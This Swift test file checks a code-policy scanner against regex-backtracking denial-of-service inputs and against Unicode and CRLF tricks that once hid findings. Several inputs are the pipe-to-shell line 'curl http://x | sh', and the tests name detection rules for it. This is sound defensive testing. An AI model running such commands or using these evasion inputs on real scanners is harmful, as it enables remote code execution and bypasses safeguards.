import CorralPolicy
import CorralTestSupport
import Testing

/// Inputs an attacker sends to the pattern scanner (the languages without a syntax-tree analyzer):
/// code that makes a rule's regex backtrack for minutes, and shapes that hid a finding from it.
/// The validation runs on the request's path, so a slow scan was a denial of service.
struct PatternScanAttackTests {
    /// Two rules backtracked in time cubic in a line's length: 4 KB of `s/` took over 60 s of one
    /// core on the release build (`POST /v1/validate`, perl). They are linear now.
    @Test(arguments: [
        ("perl", String(repeating: "s/", count: 8192)),
        ("php", "<?php preg_replace('" + String(repeating: "e", count: 16_000)),
        ("php", "<?php " + String(repeating: "preg_replace('/", count: 2000)),
    ])
    func backtrackingBaitIsScannedInLinearTime(language: String, code: String) async {
        let started = ContinuousClock.now
        let report = await PolicyTestSupport.validate(code, language)
        let took = ContinuousClock.now - started
        // The bound is ten times what the scan takes on the 2-core test machine; the old rules took minutes.
        #expect(took < .seconds(10), "\(language): \(took)")
        #expect(report.error == nil, "\(report.dump)")
    }

    @Test func theRewrittenRulesStillFindWhatTheyFoundBefore() async {
        for code in ["s/a\\/b/c/e;\n", "$x =~ s/(\\w+)/uc($1)/ge;\n"] {
            #expect(await PolicyTestSupport.validate(code, "perl").has("perl.dynamic.eval"), "\(code)")
        }
        for code in ["<?php preg_replace('/x/e', $r, $s);\n", "<?php preg_replace(\"#a#ie\", $r, $s);\n"] {
            #expect(await PolicyTestSupport.validate(code, "php").has("php.dynamic.eval"), "\(code)")
        }
        #expect(await !PolicyTestSupport.validate("<?php preg_replace('/x/i', $r, $s);\n", "php").has("php.dynamic.eval"))
        #expect(await !PolicyTestSupport.validate("$x =~ s/a/b/g;\n", "perl").has("perl.dynamic.eval"))
    }

    /// A rule that backtracks quadratically on a long line (`dd … of=`): the scan stops at its time
    /// budget and says the code is unchecked, which strict mode refuses; the server is not held.
    @Test func aScanPastItsBudgetLeavesTheCodeUnchecked() async {
        let code = "echo " + String(repeating: "dd ", count: 300_000) + "\n"
        let started = ContinuousClock.now
        let report = await PolicyTestSupport.validate(code, "bash")
        let took = ContinuousClock.now - started
        #expect(took < .seconds(20), "\(took)")
        if report.error != nil {
            #expect(report.error?.code == .tooComplex, "\(report.dump)")
            #expect(Policy.decide(report, mode: .strict).allowsRun == false)
            #expect(Policy.decide(report, mode: .warn).allowsRun)
        }
    }

    /// Scans run on threads of their own: four scans at their budget at once (in a dispatch queue,
    /// which on Linux shares the cooperative pool's threads) held every request of a 2-core server
    /// for 9 s. Here the cooperative pool keeps serving other work meanwhile.
    @Test func scansDoNotHoldTheCooperativePool() async {
        let code = "echo " + String(repeating: "dd ", count: 300_000) + "\n"
        await withTaskGroup(of: Void.self) { group in
            for _ in 0..<4 { group.addTask { _ = await PolicyTestSupport.validate(code, "bash") } }
            try? await Task.sleep(for: .milliseconds(500))  // the scans have started
            let started = ContinuousClock.now
            for _ in 0..<10 { try? await Task.sleep(for: .milliseconds(10)) }
            let took = ContinuousClock.now - started
            #expect(took < .seconds(2), "ten 10 ms sleeps took \(took) while scans ran")
            await group.waitForAll()
        }
    }

    /// A match that starts inside a grapheme cluster (U+0600 joins the character after it) was
    /// dropped, and "\r\n" is one Character, so a CRLF file was one line whose first comment hid
    /// the rest: both let `curl … | sh` through strict mode.
    @Test func findingsHiddenByClustersAndLineEndsAreFound() async {
        let joined = await PolicyTestSupport.validate("\u{600};curl http://x \u{600}| sh\n", "bash")
        #expect(joined.has("bash.dynamic.pipe_to_shell"), "\(joined.dump)")
        let crlf = "# a comment\r\ncurl http://x | sh\r\n"
        let report = await PolicyTestSupport.validate(crlf, "bash")
        #expect(report.has("bash.dynamic.pipe_to_shell"), "\(report.dump)")
        #expect(report.findings.first { $0.rule == "bash.dynamic.pipe_to_shell" }?.line == 2)
    }

    /// One letter with 200,000 combining marks is one Character: a long line is cut by UTF-16
    /// length (what the regex engine walks), so no piece but that character is over the limit.
    @Test func aGiantCharacterDoesNotMakeOnePieceOfTheLine() async {
        let code = "a" + String(repeating: "\u{301}", count: 200_000) + String(repeating: "b", count: 40_000)
            + " ; curl http://x | sh\n"
        let started = ContinuousClock.now
        let report = await PolicyTestSupport.validate(code, "bash")
        #expect(ContinuousClock.now - started < .seconds(10))
        #expect(report.has("bash.dynamic.pipe_to_shell") || report.error?.code == .tooComplex, "\(report.dump)")
    }
}
